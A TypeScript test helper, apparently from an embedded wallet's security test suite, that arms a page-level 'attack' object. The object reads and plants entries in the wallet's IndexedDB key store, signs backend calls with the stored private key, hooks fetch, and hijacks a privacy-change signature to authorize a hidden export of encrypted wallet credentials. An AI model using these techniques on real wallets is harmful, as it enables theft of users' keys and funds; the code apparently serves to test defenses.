/**
 * The tools of hostile scripts in the page. They use only what any script of the origin can reach, and not the library.
 * @module
 */

export interface Answer {
  readonly status: number
  readonly body: Record<string, unknown>
}

interface StoredSession {
  readonly id: string
  readonly publicKey: string
  readonly privateKey: CryptoKey
  readonly [name: string]: unknown
}

/** The page's `wallet.signer`, as far as a script uses it. */
interface Signer {
  stamp(text: string): Promise<string>
}

/** The type of `attack`, which a page has once `arm` has run. */
export interface Attack {
  readonly accountId: string
  readonly otherOrigin: string
  /** The address of the wallet's backend. */
  readonly backend: string
  /** The functions of the page before any script changed them. */
  readonly fetch: typeof fetch
  /** What the hooks have caught, by script. */
  readonly caught: Record<string, string[]>
  record(): Promise<Record<string, unknown> & { readonly session?: StoredSession }>
  plant(change: (record: Record<string, unknown>) => unknown): Promise<void>
  /** Puts a key into the entry of the key with this name. */
  plantKey(key: { readonly publicKey: string } & Readonly<Record<string, unknown>>): Promise<void>
  session(): Promise<StoredSession>
  stamp(text: string, session?: StoredSession): Promise<string>
  /** Makes the stamp of a raw signature. */
  stampFrom(signature: Uint8Array, publicKey: string): string
  help(what: string, asked?: Record<string, string>): Promise<Record<string, string>>
  call(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<Answer>
  /** Makes both requests of a signed call. The stamp is made with the stored key handle, or by the page's signer. */
  signed(method: string, path: string, body?: unknown, by?: StoredSession | Signer): Promise<Answer>
  /** Lets a function see each request of the library, and change or answer it. */
  onFetch(hook: (request: Request) => Promise<Request | Response | undefined>): void
  /** Begins an export, and has the page's wallet stamp it while it changes the privacy. */
  exportInsteadOf(changePrivacy: () => Promise<unknown>): Promise<{ readonly envelope: string }>
}

declare global {
  var attack: Attack
}

/** Defines `attack`. Runs in the page, so it uses nothing from this file. It can run twice. */
export function arm(given: {
  readonly accountId: string
  readonly otherOrigin: string
  readonly backend: string
}): void {
  if ('attack' in globalThis) return
  const original = { fetch: globalThis.fetch.bind(globalThis), sign: crypto.subtle.sign.bind(crypto.subtle) }
  const answered = <T>(request: IDBRequest<T>): Promise<T> =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
  const store = async <T>(
    mode: IDBTransactionMode,
    work: (records: IDBObjectStore) => Promise<T>,
  ): Promise<T> => {
    const database = await answered(indexedDB.open('embedded-wallet-auth'))
    try {
      return await work(database.transaction('accounts', mode).objectStore('accounts'))
    } finally {
      database.close()
    }
  }
  const keyRange = (): IDBKeyRange => IDBKeyRange.bound([given.accountId], [given.accountId, []])
  const hex = (bytes: Uint8Array): string => [...bytes].map((b) => b.toString(16).padStart(2, '0')).join('')
  /** Encodes a DER INTEGER. */
  const integer = (half: Uint8Array): number[] => {
    const first = half.findIndex((byte) => byte !== 0)
    const digits = [...half.slice(first)]
    const padded = (digits[0] ?? 0) > 127 ? [0, ...digits] : digits
    return [2, padded.length, ...padded]
  }

  const session = async (): Promise<StoredSession> => {
    const { session } = await attack.record()
    if (session === undefined) throw new Error('no session is stored')
    return session
  }
  const call = async (
    method: string,
    path: string,
    body?: unknown,
    headers: Record<string, string> = {},
  ): Promise<Answer> => {
    const response = await original.fetch(`${given.backend}${path}`, {
      credentials: 'include',
      method,
      headers: { ...headers, ...(body !== undefined && { 'Content-Type': 'application/json' }) },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    })
    const text = await response.text()
    return { status: response.status, body: text === '' ? {} : JSON.parse(text) }
  }
  globalThis.attack = {
    ...given,
    fetch: original.fetch,
    caught: {},
    record: () =>
      store('readonly', async (records) => {
        const [record, keys] = await Promise.all([
          answered(records.get(given.accountId) as IDBRequest<Awaited<ReturnType<Attack['record']>>>),
          answered(records.getAll(keyRange()) as IDBRequest<StoredSession[]>),
        ])
        const { session } = record
        const key = keys.find(({ publicKey }) => publicKey === session?.publicKey)
        return { ...record, ...(session && { session: { ...session, ...key } }) }
      }),
    plantKey: (key) =>
      store('readwrite', async (records) => {
        await answered(records.put(key, [given.accountId, key.publicKey]))
      }),
    plant: (change) =>
      store('readwrite', async (records) => {
        await answered(records.put(change(await answered(records.get(given.accountId))), given.accountId))
      }),
    session,
    async stamp(text, by) {
      const { privateKey, publicKey } = by ?? (await session())
      const data = new TextEncoder().encode(text)
      const raw = new Uint8Array(await original.sign({ name: 'ECDSA', hash: 'SHA-256' }, privateKey, data))
      return attack.stampFrom(raw, publicKey)
    },
    stampFrom(raw, publicKey) {
      const both = [...integer(raw.slice(0, 32)), ...integer(raw.slice(32))]
      const signature = hex(Uint8Array.from([0x30, both.length, ...both]))
      const json = JSON.stringify({ publicKey, scheme: 'SIGNATURE_SCHEME_TK_API_P256', signature })
      return btoa(json).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
    },
    help: async (what, asked = {}) =>
      (await original.fetch(`/help/${what}?${new URLSearchParams(asked)}`)).json(),
    call,
    async signed(method, path, body, by) {
      const first = await call(method, path, body)
      if (first.status !== 202) return first
      const text = String(first.body['payloadToSign'])
      return call(method, path, body, {
        'Wallet-Signature': await (by === undefined || 'privateKey' in by
          ? attack.stamp(text, by)
          : by.stamp(text)),
        'Wallet-Request-Id': String(first.body['requestId']),
      })
    },
    onFetch(hook) {
      const before = globalThis.fetch
      globalThis.fetch = async (input, init) => {
        const request = new Request(input, init)
        const changed = await hook(request.clone())
        return changed instanceof Response ? changed : before(changed ?? request)
      }
    },
    async exportInsteadOf(changePrivacy) {
      const body = await attack.help('key')
      const path = `/internal-accounts/${given.accountId}/export`
      const { body: challenge } = await call('POST', path, body)
      let envelope = ''
      let isOn = true
      attack.onFetch(async (request) => {
        if (!isOn || request.method !== 'PATCH') return undefined
        const stamp = request.headers.get('Wallet-Signature')
        if (stamp === null) return Response.json(challenge, { status: 202 })
        const headers = { 'Wallet-Signature': stamp, 'Wallet-Request-Id': String(challenge['requestId']) }
        const answer = await call('POST', path, body, headers)
        envelope = String(answer.body['encryptedWalletCredentials'] ?? '')
        return Response.json({})
      })
      await changePrivacy().catch(() => {})
      isOn = false
      return { envelope }
    },
  }
}
